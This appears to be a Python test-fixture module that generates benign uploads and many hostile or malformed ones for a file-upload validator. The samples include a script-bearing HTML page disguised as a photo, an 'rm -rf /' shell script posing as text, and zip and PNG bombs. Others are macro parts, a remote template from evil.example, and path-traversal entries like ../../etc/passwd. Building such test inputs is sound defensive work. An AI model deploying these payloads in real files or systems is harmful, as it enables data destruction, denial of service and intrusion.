"""Files as people send them, and as attackers do; made here, byte by byte, so that none has to be kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

SECRET = b"21.0285N 105.8542E"
"""Where a photo was taken: must be in nothing that is kept."""


# Pictures


def segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def exif(orientation: int = 6, order: str = ">") -> bytes:
    """Which way up, and a long note."""
    start = (b"MM" if order == ">" else b"II") + struct.pack(order + "HI", 42, 8)
    turned = struct.pack(order + "HHIHH", 0x0112, 3, 1, orientation, 0)
    note = struct.pack(order + "HHII", 0x010E, 2, len(SECRET), 38)
    return b"Exif\0\0" + start + struct.pack(order + "H", 2) + note + turned + b"\0" * 4 + SECRET


def frame(width: int = 8, height: int = 8, marker: int = 0xC0) -> bytes:
    return segment(marker, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\0")


TABLES = (
    segment(0xDB, b"\0" + b"\1" * 64)
    + segment(0xC4, b"\x00\1" + b"\0" * 15 + b"\0")
    + segment(0xC4, b"\x10\1" + b"\0" * 15 + b"\0")
)
SCAN = segment(0xDA, b"\1\1\0\0\x3f\0") + b"\x3f"
"""One grey block."""


def jpeg(*extra: bytes, picture: bytes | None = None, after: bytes = b"") -> bytes:
    return (
        b"\xff\xd8" + b"".join(extra) + (picture or frame() + TABLES + SCAN) + b"\xff\xd9" + after
    )


PHOTO = jpeg(
    segment(0xE1, exif()), segment(0xFE, SECRET), segment(0xE2, b"MPF\0" + SECRET), after=SECRET
)


def chunk(name: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def header(
    width: int = 3, height: int = 2, depth: int = 8, colour: int = 2, lace: int = 0
) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, lace))


def png(
    *extra: bytes, head: bytes | None = None, data: bytes = b"\0" + b"\1" * 9, rows: int = 2
) -> bytes:
    picture = chunk(b"IDAT", zlib.compress(data * rows))
    start = b"\x89PNG\r\n\x1a\n" + (head or header())
    return start + b"".join(extra) + picture + chunk(b"IEND")


SCREENSHOT = (
    png(chunk(b"tEXt", b"Author\0" + SECRET), chunk(b"eXIf", SECRET), chunk(b"iCCP", SECRET))
    + SECRET
)


# Documents


def packed(parts: Mapping[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in parts.items():
            archive.writestr(zipfile.ZipInfo(name), body, method)
    return out.getvalue()


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def types(main: str) -> bytes:
    return f'<Types><Override PartName="/main.xml" ContentType="{main}"/></Types>'.encode()


def relation(kind: str, target: str) -> bytes:
    at = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    link = f'<Relationship Id="r1" Type="{at}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{link}</Relationships>".encode()


def office(main: str = WORD, extra: Mapping[str, bytes] | None = None) -> bytes:
    return packed({"[Content_Types].xml": types(main), "main.xml": b"<document/>", **(extra or {})})


def open_document(kind: str = "text", extra: Mapping[str, bytes] | None = None) -> bytes:
    """Its first part is not packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        for name, body in {"META-INF/manifest.xml": b"<manifest/>", **(extra or {})}.items():
            archive.writestr(zipfile.ZipInfo(name), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"
CSV = "STT,Nội dung\r\n1,Sửa cầu\r\n".encode("utf-8-sig")
HONEST: dict[str, tuple[bytes, str]] = {
    "ảnh cầu.JPG": (PHOTO, "image/jpeg"),
    "man hinh.png": (SCREENSHOT, "image/png"),
    "van ban.pdf": (PDF, "application/pdf"),
    "bien ban.docx": (
        office(WORD),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "bang.xlsx": (
        office(EXCEL),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "bien ban.odt": (open_document(), "application/vnd.oasis.opendocument.text"),
    "bang.ods": (open_document("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
    "ghi chép.txt": ("Đã sửa xong cầu.\n".encode(), "text/plain"),
    "bang.csv": (CSV, "text/csv"),
}

LIED_ABOUT = b"<!DOCTYPE html><script>alert(1)</script>"


def _with_entry(data: bytes, old: bytes, new: bytes) -> bytes:
    """The same archive with another name in both of its places."""
    assert data.count(old) == 2
    return data.replace(old, new)


def _flagged(data: bytes) -> bytes:
    """Says that its first part is encrypted."""
    at = data.index(b"PK\x01\x02")
    return data[:6] + b"\1\0" + data[8 : at + 8] + b"\1\0" + data[at + 10 :]


ZEROS = b"\0" * (110 * 1024 * 1024)
INNER = packed({"a.txt": b"x"})

HOSTILE: dict[str, tuple[str, bytes, str]] = {
    # name: the name it comes under, what it is, the fault
    "page as photo": ("a.jpg", LIED_ABOUT, "file_active"),
    "page": ("a.html", LIED_ABOUT, "file_kind"),
    "page as text": ("a.txt", b"\n  <!-- x --><b>", "file_active"),
    "script deep in a text": ("a.txt", b"Hello\n\n<script >", "file_active"),
    "shell script": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "file_active"),
    "rich text": ("a.txt", rb"{\rtf1\ansi x}", "file_active"),
    "drawing": ("a.svg", b"<svg xmlns='x'/>", "file_kind"),
    "drawing as photo": ("a.png", b"<?xml version='1.0'?><svg onload='x'/>", "file_active"),
    "programme": ("a.exe", b"MZ\x90\0\3\0\0\0", "file_kind"),
    "programme as text": ("a.txt", b"MZ\x90\0\3\0\0\0", "file_kind"),
    "old office": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64, "file_kind"),
    "photo with another ending": ("a.png", PHOTO, "file_lies"),
    "photo as programme": ("a.jpg.exe", PHOTO, "file_kind"),
    "document as table": ("a.xlsx", office(WORD), "file_lies"),
    "table as text": ("a.csv", office(EXCEL), "file_lies"),
    "text as document": ("a.docx", b"plain words", "file_lies"),
    "zip as document": ("a.docx", INNER, "file_kind"),
    "two kinds at once": (
        "a.docx",
        packed({"[Content_Types].xml": types(WORD) + types(EXCEL)}),
        "file_kind",
    ),
    "page and photo in one": ("a.jpg", b"\xff\xd8\xff" + LIED_ABOUT, "file_broken"),
    "archive behind a PDF": ("a.pdf", PDF + INNER, "file_broken"),
    "PDF behind something": ("a.pdf", b"x" + PDF, "file_lies"),
    "PDF without an end": ("a.pdf", PDF[:-8], "file_broken"),
    "blank text": ("a.txt", b" \n ", "file_kind"),
    "text with controls": ("a.txt", b"a\x1b[2Jb", "file_kind"),
    "text in another coding": ("a.txt", "Cầu".encode("utf-16"), "file_kind"),
    # Pictures
    "half a photo": ("a.jpg", PHOTO[:-40], "file_broken"),
    "photo without a picture": ("a.jpg", b"\xff\xd8" + TABLES + b"\xff\xd9", "file_broken"),
    "photo of no size": ("a.jpg", jpeg(picture=frame(0, 8) + TABLES + SCAN), "file_broken"),
    "photo too large": ("a.jpg", jpeg(picture=frame(9_000, 9_000) + TABLES + SCAN), "file_pixels"),
    "photo too wide": ("a.jpg", jpeg(picture=frame(40_000, 1) + TABLES + SCAN), "file_pixels"),
    "photo of two frames": (
        "a.jpg",
        jpeg(picture=frame() + frame() + TABLES + SCAN),
        "file_broken",
    ),
    "photo of odd coding": (
        "a.jpg",
        jpeg(picture=frame(marker=0xC9) + TABLES + SCAN),
        "file_broken",
    ),
    "photo of endless scans": ("a.jpg", jpeg(picture=frame() + TABLES + SCAN * 201), "file_broken"),
    "photo with a full table": (
        "a.jpg",
        jpeg(segment(0xDB, b"\0" + b"\1" * 64 + SECRET)),
        "file_broken",
    ),
    "picture too large": ("a.png", png(head=header(9_000, 9_000)), "file_pixels"),
    "picture of no size": ("a.png", png(head=header(0, 2)), "file_broken"),
    "picture that unpacks to more": ("a.png", png(rows=3), "file_bomb"),
    "picture that unpacks to less": ("a.png", png(rows=1), "file_broken"),
    "picture bomb": ("a.png", png(data=ZEROS[:1_000_000], rows=50), "file_bomb"),
    "picture with a bad sum": ("a.png", png().replace(b"IDAT", b"IDAT\0"), "file_broken"),
    "picture of a new kind": ("a.png", png(chunk(b"NEWW")), "file_broken"),
    "picture with a long colour list": ("a.png", png(chunk(b"PLTE", b"x" * 900)), "file_broken"),
    "picture without an end": ("a.png", png()[:-12], "file_broken"),
    # Archives
    "bomb": ("a.docx", office(extra={"big.xml": ZEROS}), "file_bomb"),
    "flat bomb": (
        "a.docx",
        office(extra={f"{n}": ZEROS[:4_000_000] for n in range(30)}),
        "file_bomb",
    ),
    "bomb of parts": ("a.docx", office(extra={f"{n}": b"" for n in range(3_000)}), "file_bomb"),
    "bomb in the list of parts": (
        "a.docx",
        packed({"[Content_Types].xml": types(WORD) + b" " * 2_000_000}),
        "file_bomb",
    ),
    "bomb in a document": (
        "a.docx",
        office(extra={"embeddings/a.xlsx": office(EXCEL, {"big.xml": ZEROS})}),
        "file_bomb",
    ),
    "archives in archives": (
        "a.docx",
        office(extra={"1.zip": packed({"2.zip": INNER})}),
        "file_bomb",
    ),
    "an archive of another kind": (
        "a.docx",
        office(extra={"a": b"7z\xbc\xaf\x27\x1c"}),
        "file_bomb",
    ),
    "programme inside": ("a.docx", office(extra={"word/a.bin": b"MZ\x90\0"}), "file_active"),
    "script inside": ("a.docx", office(extra={"word/a.vbs": b"x"}), "file_active"),
    "macros": (
        "a.docx",
        office(WORD.replace("document.main", "document.macroEnabled")),
        "file_active",
    ),
    "macros by part": ("a.docx", office(extra={"word/vbaProject.bin": b"x"}), "file_active"),
    "macros of an open document": (
        "a.odt",
        open_document(extra={"Basic/Standard/a.xml": b"x"}),
        "file_active",
    ),
    "a template from the network": (
        "a.docx",
        office(extra={"_rels/a.rels": relation("attachedTemplate", "https://evil.example/a.dotm")}),
        "file_active",
    ),
    "entities": (
        "a.docx",
        packed({"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]>" + types(WORD)}),
        "file_broken",
    ),
    "list of parts in another coding": (
        "a.docx",
        packed({"[Content_Types].xml": types(WORD).decode().encode("utf-16")}),
        "file_broken",
    ),
    "path upwards": ("a.docx", office(extra={"../../etc/passwd": b"x"}), "file_broken"),
    "path from the root": ("a.docx", office(extra={"/etc/passwd": b"x"}), "file_broken"),
    "path of a drive": ("a.docx", office(extra={"C:/x": b"x"}), "file_broken"),
    "path the other way": (
        "a.docx",
        _with_entry(office(extra={"word/x.xml": b"x"}), b"word/x.xml", b"..\\.\\x.xml"),
        "file_broken",
    ),
    "one name twice": ("a.docx", office(extra={"MAIN.xml": b"x"}), "file_broken"),
    "encrypted": ("a.docx", _flagged(office()), "file_broken"),
    "packed in another way": (
        "a.docx",
        packed({"[Content_Types].xml": types(WORD)}, method=zipfile.ZIP_LZMA),
        "file_broken",
    ),
    "something behind it": ("a.docx", office() + b"x", "file_broken"),
    "half of it": ("a.docx", office()[:-30], "file_broken"),
    "a spoilt part": ("a.docx", office().replace(b"main.xml", b"main.xmm", 1), "file_broken"),
    "an open document of another kind": ("a.odt", open_document("presentation"), "file_kind"),
    "an open document with a password": (
        "a.odt",
        packed({"mimetype": b"application/vnd.oasis.opendocument.text"}),
        "file_kind",
    ),
    "an encrypted open document": (
        "a.odt",
        open_document(extra={"META-INF/manifest.xml": b"<encryption-data/>"}),
        "file_broken",
    ),
}
